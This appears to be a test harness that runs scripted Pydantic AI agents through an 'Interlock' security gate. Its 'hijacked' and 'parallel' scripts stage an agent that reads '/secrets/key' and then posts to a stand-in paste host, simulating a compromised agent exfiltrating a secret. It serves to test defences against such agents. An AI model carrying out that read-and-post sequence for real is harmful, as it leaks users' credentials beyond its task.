"""Agents of Pydantic AI with a scripted model; run in an environment of its own.

python pydantic_ai_agents.py GATE CASE      prints what ran, and what the model read, as JSON
"""

from __future__ import annotations

import json
import sys
from collections.abc import AsyncIterator, Iterator
from typing import Any

from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart, ToolReturnPart
from pydantic_ai.models.function import AgentInfo, DeltaToolCall, FunctionModel

from interlock import Client
from interlock.adapters.pydantic_ai import Interlock

RAN: list[list[str]] = []


def read_file(path: str) -> str:
    """Read a file."""
    RAN.append(["read_file", path])
    return "TOKEN" if path.startswith("/secrets") else "notes"


async def http_post(url: str, body: str) -> str:
    """Post."""
    RAN.append(["http_post", url])
    if "broken" in url:
        raise ValueError("no route")
    return "200"


POST = ToolCallPart("http_post", {"url": "https://paste.example/x", "body": "b"}, "c2")
SECRET = ToolCallPart("read_file", {"path": "/secrets/key"}, "c1")
NOTES = ToolCallPart("read_file", {"path": "/notes"}, "c1")
Parts = list[Any]


def hijacked() -> Iterator[Parts]:
    yield [TextPart("I read the file first."), SECRET]
    yield [POST]
    yield [TextPart("I could not post it.")]


def honest() -> Iterator[Parts]:
    yield [NOTES]
    yield [POST]
    yield [TextPart("Done.")]


def parallel() -> Iterator[Parts]:
    yield [SECRET]
    posts = [ToolCallPart("http_post", POST.args, f"p{n}") for n in range(3)]
    yield [*posts, ToolCallPart("read_file", {"path": "/a"}, "p3")]
    yield [TextPart("Done.")]


def broken() -> Iterator[Parts]:
    yield [ToolCallPart("http_post", {"url": "https://broken.example", "body": ""}, "c1")]
    yield [TextPart("Done.")]


SCRIPTS = {one.__name__: one for one in (hijacked, honest, parallel, broken)}


def model_of(script: Iterator[Parts]) -> FunctionModel:
    def answer(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        return ModelResponse(parts=next(script))

    async def stream(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[Any]:
        for number, part in enumerate(next(script)):
            if isinstance(part, TextPart):
                yield part.content
            else:
                args = json.dumps(part.args)
                yield {number: DeltaToolCall(part.tool_name, args, tool_call_id=part.tool_call_id)}

    return FunctionModel(answer, stream_function=stream)


def read_of(messages: list[ModelMessage]) -> list[list[str]]:
    parts = [part for message in messages for part in message.parts]
    return [[p.tool_call_id, str(p.content)] for p in parts if isinstance(p, ToolReturnPart)]


async def watch(context: Any, events: Any) -> None:
    """Somebody who reads what is streamed."""
    async for _ in events:
        pass


def main(gate: str, case: str) -> None:
    name, _, how = case.partition("-")
    client = Client(gate=gate, agent="pydantic-ai", user="ada")
    capability: Any = Interlock(client, redact=lambda text: text.replace("Ada", "[user]"))
    agent = Agent(
        model_of(SCRIPTS[name]()), tools=[read_file, http_post], capabilities=[capability]
    )
    asked, error, read = "Ada asks: do it", "", []
    try:
        if how == "stream":
            result: Any = agent.run_sync(asked, event_stream_handler=watch)
        elif how == "later":
            # The second run goes on with the conversation of the first.
            script = SCRIPTS[name]()
            first = iter([next(script), [TextPart("Wait.")]])
            agents = [
                Agent(model_of(one), tools=[read_file, http_post], capabilities=[capability])
                for one in (first, script)
            ]
            begun = agents[0].run_sync(asked)
            result = agents[1].run_sync("go on", message_history=begun.all_messages())
        else:
            result = agent.run_sync(asked)
        read = read_of(result.all_messages())
    except ValueError as raised:
        error = str(raised)
    client.close()
    print(json.dumps({"ran": RAN, "read": read, "error": error}))


if __name__ == "__main__":
    main(*sys.argv[1:])
